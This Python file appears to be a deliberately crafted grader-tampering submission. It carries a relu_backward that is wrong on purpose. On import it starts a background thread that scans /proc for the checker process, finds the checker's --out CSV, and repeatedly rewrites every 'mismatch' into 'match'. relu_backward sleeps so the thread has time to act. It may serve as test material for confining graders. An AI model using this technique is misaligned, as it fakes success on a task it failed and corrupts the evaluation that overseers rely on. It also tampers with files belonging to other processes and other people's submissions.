"""Finds the checker's --out on its command line and, from a thread, turns every mismatch into a match.

relu_backward forgets the mask (wrong on purpose). Unconfined, the thread can read
``/proc/<pid>/cmdline`` and ``/proc/<pid>/cwd`` of the checker (same user) and rewrite its
CSV while the other submissions are judged.
"""

import os
import threading
import time

import numpy as np


def checker_outputs():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if "--out" in argv and "check" in argv:
            out = argv[argv.index("--out") + 1]
            found.append(os.path.join(cwd, out))
    return found


def keep_rewriting():
    for _ in range(200):
        for path in checker_outputs():
            try:
                with open(path) as f:
                    text = f.read()
                if "mismatch" in text:
                    with open(path, "w") as f:
                        f.write(text.replace("mismatch", "match"))
            except OSError:
                pass
        time.sleep(0.05)


threading.Thread(target=keep_rewriting, daemon=True).start()


def relu_forward(x):
    return np.maximum(0, x), x


def relu_backward(dout, cache):
    time.sleep(0.3)  # gives the thread its chance
    return dout.copy()
